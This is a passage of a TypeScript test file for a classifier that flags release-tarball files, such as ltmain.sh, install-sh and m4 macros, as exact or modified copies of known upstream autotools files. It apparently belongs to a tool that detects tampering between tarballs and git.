    expect(classifyUpstream('build-aux/ltmain.sh', Buffer.from(patched), db)).toMatchObject({ code: 'UPSTREAM_COPY_UNKNOWN_VERSION', evidence: { unaccountedLines: 3 } });
    const more = lt('VERSION=2.4.7', '  case "$1" in', '    *.sh) sh "$@" ;;', '  esac', '  cp "$log" /tmp/x');
    expect(classifyUpstream('build-aux/ltmain.sh', Buffer.from(more), db, { patch })).toMatchObject({ code: 'UPSTREAM_COPY_UNKNOWN_VERSION', evidence: { unaccountedLines: 1 } });
  });

  it('a local-system copy matches exactly only, at low severity, reported as local-system', () => {
    const content = Buffer.from('#!/bin/sh\n# local install-sh\n');
    const withLocal = makeDb([{ path: '/usr/share/automake-1.16/install-sh', content }]);
    expect(withLocal.byBlob(blobId('sha1', content))[0]?.project).toBe('local-system');
    expect(classifyUpstream('build-aux/install-sh', content, withLocal)).toMatchObject({
      code: 'UPSTREAM_COPY',
      severity: 'low',
      severityReason: { reason: 'local-copy-only', default: 'info' },
      evidence: { match: 'exact', upstream: { project: 'local-system', file: '/usr/share/automake-1.16/install-sh' } },
    });
    expect(classifyUpstream('build-aux/install-sh', Buffer.from(`${content}x\n`), withLocal)?.code).toBe('UPSTREAM_COPY_UNKNOWN_VERSION');
  });
});

describe('createUpstreamClassifier', () => {
  const files: Record<string, Buffer> = { 'm4/demo.m4': Buffer.from(v1), 'm4/other.m4': Buffer.from('x\n') };
  const ctx = {
    content: { tarball: (p: string) => files[p], git: async () => undefined },
  } as unknown as ClassifyContext;
  const c = createUpstreamClassifier(() => db);
  const entry = (path: string) => ({ path, type: 'file' as const, executable: false, size: 1 });

  it('classifies tarball-only and content-changed files, skips the rest', async () => {
    expect((await c.classify({ path: 'm4/demo.m4', status: 'tarball-only', tarball: entry('m4/demo.m4') }, ctx))?.code).toBe('UPSTREAM_COPY');
    const changed: PathDiff = { path: 'm4/demo.m4', status: 'changed', changes: ['content'], tarball: entry('m4/demo.m4'), git: entry('m4/demo.m4') };
    expect((await c.classify(changed, ctx))?.code).toBe('UPSTREAM_COPY');
    expect(await c.classify({ ...changed, changes: ['mode'] }, ctx)).toBeUndefined();
    expect(await c.classify({ path: 'm4/demo.m4', status: 'git-only', git: entry('m4/demo.m4') }, ctx)).toBeUndefined();
  });
  it('returns undefined when the content was not retained or the name is unknown', async () => {
    expect(await c.classify({ path: 'x/demo.m4', status: 'tarball-only', tarball: entry('x/demo.m4') }, ctx)).toBeUndefined();
    expect(await c.classify({ path: 'm4/other.m4', status: 'tarball-only', tarball: entry('m4/other.m4') }, ctx)).toBeUndefined();
  });
});

describe('mayBeUpstreamFile: the database is not loaded for files that cannot be in it', () => {
  it.each([
    ['m4/gettext.m4', true],
    ['build-aux/ltmain.sh', true],
    ['po/Makefile.in.in', true],
    ['build-aux/gitlog-to-changelog', true],
    ['aclocal.m4', false],
    ['configure', false],
    ['src/main.c', false],
    ['doc/xz.1', false],
  ])('%s → %s', (path, expected) => {
    expect(mayBeUpstreamFile(path)).toBe(expected);
  });

  it('never asks for the database for other files', async () => {
    const c = createUpstreamClassifier(() => {
      throw new Error('database loaded');
    });
    const diff: PathDiff = { path: 'src/main.c', status: 'tarball-only', tarball: { path: 'src/main.c', type: 'file', executable: false, size: 1, oid: 'x' } };
    const ctx = { content: { tarball: () => Buffer.from('x'), git: async () => undefined } } as unknown as ClassifyContext;
    expect(await c.classify(diff, ctx)).toBeUndefined();
  });
});
